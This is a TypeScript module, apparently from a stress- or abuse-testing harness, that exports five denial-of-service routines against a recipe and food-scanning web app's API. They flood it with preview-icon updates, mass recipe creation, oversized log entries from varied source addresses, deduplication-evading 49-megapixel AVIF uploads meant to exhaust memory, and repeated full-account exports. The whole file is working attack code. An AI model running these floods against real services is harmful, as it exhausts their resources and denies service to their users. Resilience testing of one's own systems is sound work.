import { randomUUID } from 'node:crypto';
import sharp from 'sharp';
import { floodFor, send } from '../requests.ts';
import { type Attack, addressOf } from '../target.ts';

/** A new preview icon as often as the server takes one. */
export const iconFlood: Attack = async ({ url, accounts, seconds }) => {
  const noise = Buffer.from(Array.from({ length: 300 * 300 * 3 }, (_, i) => (i * 7919) % 251));
  const icon = await sharp(noise, { raw: { width: 300, height: 300, channels: 3 } })
    .png()
    .toBuffer();
  const previewIconUrl = `data:image/png;base64,${icon.toString('base64')}`;
  return floodFor(seconds, 8, (lane) => {
    const account = accounts[lane % accounts.length];
    const payload = { itemId: account?.itemId, updateData: { previewIconUrl } };
    return send({
      url,
      path: '/items',
      account,
      body: JSON.stringify({ action: 'UPDATE_ITEM', payload }),
    });
  });
};

/** Recipes as fast as they are taken. */
export const recipeFlood: Attack = async ({ url, accounts, seconds }) =>
  floodFor(seconds, 12, (lane) => {
    const ingredients = Array.from({ length: 100 }, (_, index) => `${index} g word${randomUUID()}`);
    const payload = { title: `Flood ${lane}`, ingredients, instructions: ingredients };
    return send({
      url,
      path: '/items',
      account: accounts[lane % accounts.length],
      body: JSON.stringify({ action: 'CREATE_ITEM', payload }),
    });
  });

/** Client log entries of the largest size. */
export const logFlood: Attack = async ({ url, seconds, network }) => {
  const body = JSON.stringify({
    level: 'error',
    message: 'x'.repeat(3900),
    stack: 'y'.repeat(7900),
  });
  return floodFor(seconds, 16, (lane) =>
    send({
      url,
      path: '/v1/log/data',
      account: { cookie: '', address: addressOf(network, lane) },
      body,
    }),
  );
};

/** Photos of 49 megapixels in a format that needs all of them in memory. */
export const hugePhotos: Attack = async ({ url, accounts, seconds }) => {
  const photo = await sharp({
    create: { width: 7000, height: 7000, channels: 3, background: '#a63' },
  })
    .avif({ effort: 0, quality: 30 })
    .toBuffer();
  return floodFor(seconds, 8, (lane, round) => {
    // Bytes after the image make another file of it.
    const bytes = Buffer.concat([photo, Buffer.from(`${lane}-${round}`)]);
    const image = `data:image/avif;base64,${bytes.toString('base64')}`;
    return send({
      url,
      path: '/scan',
      account: accounts[lane % accounts.length],
      body: JSON.stringify({
        action: 'FOOD_RECOGNITION',
        payload: { image, mimeType: 'image/avif' },
      }),
    });
  });
};

/** Exports of the whole account, again and again. */
export const exportFlood: Attack = async ({ url, accounts, seconds }) =>
  floodFor(seconds, 8, (lane) =>
    send({ url, path: '/v1/account/export', account: accounts[lane % accounts.length] }),
  );
